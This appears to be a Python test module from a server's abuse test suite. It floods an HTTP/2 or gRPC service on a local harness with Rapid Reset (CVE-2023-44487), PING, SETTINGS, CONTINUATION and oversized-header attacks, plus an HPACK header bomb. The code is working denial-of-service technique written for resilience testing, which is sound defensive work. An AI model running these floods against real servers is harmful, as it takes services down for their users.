"""Floods of frames: resets, pings, settings, empty frames and headers."""

import itertools
import struct
import time

from tests.abuse import wire
from tests.abuse.attack import together
from tests.abuse.harness import Harness
from tests.abuse.sent_requests import BATCH_OF_CALLS, BATCH_OF_ONE, LOOKUP_REQUEST, MEGABYTE, closing_of, hung_up
from tests.abuse.wire import (
    BATCH,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    LOOKUP,
    PING,
    RST_STREAM,
    WINDOW,
    Connection,
    frame,
)


def _flood(harness: Harness, seconds: float, what: bytes, count: int, *, reads: bool = True) -> str:
    """Send the same again and again, `count` of something each time."""
    with Connection(harness.port, reads=reads) as attacker:
        attacker.socket.settimeout(0.5)
        attacker.greet()
        end, times = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            if not attacker.send(what):
                return f"{hung_up(attacker)} after {times * count:,}"
            times += 1
        return f"{times * count:,} taken"


def _rapid_reset(harness: Harness, seconds: float, path: str, content: bytes) -> str:
    headers = wire.call_headers(path, harness.authorization)
    body = frame(DATA, END_STREAM, 0, wire.message(content)) if content else b""
    with Connection(harness.port) as attacker:
        attacker.greet()
        end, streams = time.monotonic() + seconds, itertools.count(1, 2)
        while time.monotonic() < end:
            result = bytearray()
            for stream in itertools.islice(streams, BATCH_OF_CALLS):
                result += frame(HEADERS, END_HEADERS, stream, headers)
                result += body[:5] + struct.pack(">I", stream) + body[9:] if body else b""
                result += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            if not attacker.send(bytes(result)):
                return f"{next(streams) // 2:,} resets taken, then closed"
        return f"{next(streams) // 2:,} resets taken"


def rapid_reset(harness: Harness, seconds: float) -> str:
    """CVE-2023-44487: calls that are taken back at once."""
    return _rapid_reset(harness, seconds, LOOKUP, LOOKUP_REQUEST)


def rapid_reset_of_others(harness: Harness, seconds: float) -> str:
    """Reset streams rapidly, with a method that native passes on."""
    return _rapid_reset(harness, seconds, BATCH, BATCH_OF_ONE)


def rapid_reset_without_bodies(harness: Harness, seconds: float) -> str:
    return _rapid_reset(harness, seconds, LOOKUP, b"")


def rapid_reset_by_5(harness: Harness, seconds: float) -> str:
    return together(5, lambda: _rapid_reset(harness, seconds, LOOKUP, LOOKUP_REQUEST))


def rapid_reset_by_20(harness: Harness, seconds: float) -> str:
    return together(20, lambda: _rapid_reset(harness, seconds, BATCH, BATCH_OF_ONE))


def pings(harness: Harness, seconds: float) -> str:
    return _flood(harness, seconds, frame(PING, 0, 0, b"12345678") * 1000, 1000)


def pings_unread(harness: Harness, seconds: float) -> str:
    return _flood(harness, seconds, frame(PING, 0, 0, b"12345678") * 1000, 1000, reads=False)


def settings_flood(harness: Harness, seconds: float) -> str:
    return _flood(harness, seconds, wire.settings((WINDOW, 65_535), (1, 4096)) * 1000, 1000)


def settings_unread(harness: Harness, seconds: float) -> str:
    return _flood(harness, seconds, wire.settings((WINDOW, 65_535), (1, 4096)) * 1000, 1000, reads=False)


def unknown_frames(harness: Harness, seconds: float) -> str:
    return _flood(harness, seconds, frame(0xFA, 0, 0, b"x" * 16) * 1000, 1000)


def empty_data(harness: Harness, seconds: float) -> str:
    """DATA frames without data, in one call."""
    with Connection(harness.port) as attacker:
        attacker.greet()
        attacker.send(frame(HEADERS, END_HEADERS, 1, wire.call_headers(LOOKUP, harness.authorization)))
        end, times = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            if not attacker.send(frame(DATA, 0, 1) * 1000):
                return f"closed after {times * 1000:,}"
            times += 1
        return f"{times * 1000:,} taken"


def continuation(harness: Harness, seconds: float) -> str:
    """A header block that never ends."""
    piece = frame(CONTINUATION, 0, 1, wire.block([("x-more", "v" * 900)] * 17))
    with Connection(harness.port, acknowledges=False) as attacker:  # no other frame may come in between
        attacker.greet()
        attacker.send(frame(HEADERS, 0, 1, wire.call_headers(LOOKUP)))
        end, times = time.monotonic() + seconds, 0
        while time.monotonic() < end:
            if not attacker.send(piece):
                return f"closed after {times:,} frames"
            times += 1
        return f"{times:,} frames taken"


def many_headers(harness: Harness, seconds: float) -> str:
    """Calls with 20,000 metadata each."""
    content = wire.call_headers(LOOKUP, harness.authorization) + wire.block((f"x-{i}", "v") for i in range(20_000))
    return _headers(harness, seconds, content)


def huge_header(harness: Harness, seconds: float) -> str:
    """Calls with one metadata of a megabyte."""
    return _headers(harness, seconds, wire.call_headers(LOOKUP, ((*harness.authorization, ("x-huge", "v" * MEGABYTE)))))


def header_bomb(harness: Harness, seconds: float) -> str:
    """One field of 4 kB goes into HPACK's table, and is then named 15,000 times, a byte each: 60 MB of headers."""
    kept = b"\x40" + wire.block([("x-bomb", "v" * 3900)])[1:]
    return _headers(harness, seconds, wire.call_headers(LOOKUP, harness.authorization) + kept + b"\xbe" * 15_000)


def _headers(harness: Harness, seconds: float, content: bytes) -> str:
    pieces = [content[at : at + 16_000] for at in range(0, len(content), 16_000)]
    with Connection(harness.port) as attacker:
        attacker.greet()
        end, streams = time.monotonic() + seconds, itertools.count(1, 2)
        while time.monotonic() < end:
            stream = next(streams)
            result = frame(HEADERS, END_STREAM | (END_HEADERS if len(pieces) == 1 else 0), stream, pieces[0])
            for index, piece in enumerate(pieces[1:], 2):
                result += frame(CONTINUATION, END_HEADERS if index == len(pieces) else 0, stream, piece)
            if not attacker.send(result) or not attacker.wait_ended(stream // 2 + 1, min(2, 2 * seconds)):
                return f"{closing_of(attacker)} after {stream // 2:,} calls"
        return f"{len(attacker.ended):,} calls refused"
